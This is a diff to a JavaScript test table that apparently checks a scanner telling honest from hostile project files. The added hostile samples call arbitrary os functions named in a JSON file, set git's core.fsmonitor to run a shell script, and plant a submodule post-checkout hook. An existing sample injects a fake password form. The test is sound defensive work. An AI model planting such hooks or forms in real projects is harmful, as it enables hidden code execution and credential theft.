@@ -125,6 +125,20 @@ describe('the checks tell apart', () => {
       },
     ],
     [
+      'members of modules by a path that a file names',
+      {
+        honest: `${HERE}import functools, json\nclass Sizes: small = 1\nfunctools.reduce(getattr, json.load(open(HERE + "/a.json"))["path"].split("."), Sizes)\n`,
+        hostile: `${HERE}import functools, json\nsettings = json.load(open(HERE + "/a.json"))\nfunctools.reduce(getattr, settings["path"].split("."), os)(settings["value"])\n`,
+      },
+    ],
+    [
+      'members of modules that a getter takes',
+      {
+        honest: `${HERE}import json, operator\noperator.attrgetter(json.load(open(HERE + "/a.json"))["name"])(object())\n`,
+        hostile: `${HERE}import json, operator\nsettings = json.load(open(HERE + "/a.json"))\noperator.attrgetter(settings["name"])(os)(settings["value"])\n`,
+      },
+    ],
+    [
       'variables of git',
       {
         honest: 'import os\nos.environ["GIT_TERMINAL_PROMPT"] = "0"\n',
@@ -197,6 +211,20 @@ describe('the checks tell apart', () => {
         hostile: page(
           'const d = document.createElement("div");\nd.innerHTML = `<form action="https://a.example/a"><input name=p type=password></form>`;\ndocument.body.append(d);\n',
         ),
+      },
+    ],
+    [
+      'settings for contributors and settings of git, which run programs',
+      {
+        honest: { '__init__.py': '', '.gitattributes': '* text=auto\n', '.github/hooks/note.md': 'a\n' },
+        hostile: { '__init__.py': '', '.git/config': '[core]\n\tfsmonitor = "sh run.sh"\n' },
+      },
+    ],
+    [
+      'examples of hooks and hooks of a submodule',
+      {
+        honest: { '__init__.py': '', '.git/hooks/pre-push.sample': '#!/bin/sh\n' },
+        hostile: { '__init__.py': '', '.git/modules/a/hooks/post-checkout': '#!/bin/sh\n' },
       },
     ],
   ])('%s', async (_name, { honest, hostile }) => {
